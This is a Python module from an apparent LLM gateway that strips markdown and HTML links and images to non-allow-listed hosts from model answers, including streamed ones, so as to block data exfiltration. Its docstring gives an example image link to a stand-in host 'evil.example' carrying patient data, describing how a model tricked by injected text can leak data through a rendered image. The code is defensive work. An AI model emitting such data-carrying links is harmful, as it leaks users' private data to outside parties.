"""Output guard against exfiltration through links: a model that was tricked into writing
``![x](https://evil.example/?q=<patient data>)`` leaks the data the moment a chat widget renders the
image, without anyone clicking. Markdown images and links, and HTML ``img``/``a``/``iframe`` tags, whose
host is not on the app's allow-list are stripped (a link keeps its text), in plain and streamed answers.

Streaming: text that may be the start of a link is held back until the link is complete (or clearly is
no link), so a link split across chunks is judged whole. Nothing is held for longer than ``MAX_HOLD``
characters.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from urllib.parse import urlsplit

from phigate.backends.base import Body
from phigate.pipeline import RequestContext

MAX_HOLD = 2048

_MD = re.compile(r"(!?)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,1500})>?(?:\s+\"[^\"\n]*\")?\s*\)")
_HTML = re.compile(
    r"<(img|a|iframe|image|source|video|audio)\b[^>]{0,1500}?\b(?:src|href)\s*=\s*[\"']?([^\"'\s>]+)[^>]{0,1500}>",
    re.IGNORECASE,
)
# where a markdown link or image might begin; HTML tags are watched by name
_MD_START = re.compile(r"!?\[")
_TAGS = ("img", "a", "iframe", "image", "source", "video", "audio")


def _host(url: str) -> str | None:
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return ""
    if parts.scheme in ("", "mailto", "tel") and not url.startswith("//"):
        return None  # relative links and mail/tel links carry nothing to another host
    return (parts.hostname or "").lower()


class LinkFilter:
    """An ``AnswerFilter`` that strips links and images to hosts outside ``allow`` (``*.example`` allows
    sub-domains). ``stripped`` counts what it removed, for the audit ledger."""

    def __init__(self, allow: Iterable[str] = (), on_strip: Callable[[], None] | None = None) -> None:
        self._exact = {a.lower() for a in allow if not a.startswith("*.")}
        self._suffixes = tuple(a.lower()[1:] for a in allow if a.startswith("*."))
        self._held: dict[str, str] = {}
        self._on_strip = on_strip
        self.stripped = 0

    def _strip(self) -> None:
        self.stripped += 1
        if self._on_strip is not None:
            self._on_strip()

    def allowed(self, url: str) -> bool:
        host = _host(url)
        if host is None:
            return True
        return host in self._exact or (bool(host) and host.endswith(self._suffixes))

    def clean(self, text: str) -> str:
        """``text`` with every disallowed link and image removed (a link keeps its text)."""

        def markdown(m: re.Match[str]) -> str:
            if self.allowed(m.group(3)):
                return m.group(0)
            self._strip()
            return "" if m.group(1) else m.group(2)

        def html(m: re.Match[str]) -> str:
            if self.allowed(m.group(2)):
                return m.group(0)
            self._strip()
            return ""

        return _HTML.sub(html, _MD.sub(markdown, text))

    def feed(self, field: str, text: str) -> str:
        buf = self._held.pop(field, "") + text
        cut = self._unfinished(buf)
        if cut is not None and len(buf) - cut <= MAX_HOLD:
            self._held[field] = buf[cut:]
            buf = buf[:cut]
        return self.clean(buf)

    def finish(self, field: str) -> str:
        return self.clean(self._held.pop(field, ""))

    @staticmethod
    def _unfinished(buf: str) -> int | None:
        """Where a link that is not complete yet begins (the earliest such place), if any."""
        holds: list[int] = []
        for m in _MD_START.finditer(buf):
            rest = buf[m.start() :]
            if _MD.match(rest) or "\n\n" in rest:
                continue
            close = rest.find("]")
            if close == -1 or close == len(rest) - 1 or (rest[close + 1] == "(" and ")" not in rest[close:]):
                holds.append(m.start())
                break
        if buf.endswith("!"):
            holds.append(len(buf) - 1)  # perhaps the "!" of "![", the rest still to come
        lt = buf.rfind("<")
        if lt != -1 and ">" not in buf[lt:]:
            name = re.match(r"[a-zA-Z]*", buf[lt + 1 :])
            word = name.group().lower() if name else ""
            if any(tag.startswith(word) or word.startswith(tag) for tag in _TAGS):
                holds.append(lt)
        return min(holds) if holds else None


class LinkStage:
    """The pipeline stage for ``LinkFilter``: per app, ``guards: {exfil_links: strip | off}`` and
    ``link_hosts`` (hosts answers may link to, such as the shop's own domain)."""

    name = "exfil_links"

    async def on_request(self, ctx: RequestContext, payload: Body) -> None:
        return None

    def answer_filter(self, ctx: RequestContext) -> LinkFilter | None:
        if ctx.app.guards.get("exfil_links", "strip") == "off":
            return None
        guards = ctx.notes.setdefault("guards", {})
        guards["exfil_links"] = "allow"

        def stripped() -> None:
            guards["exfil_links"] = "strip"

        return LinkFilter(ctx.app.link_hosts, on_strip=stripped)
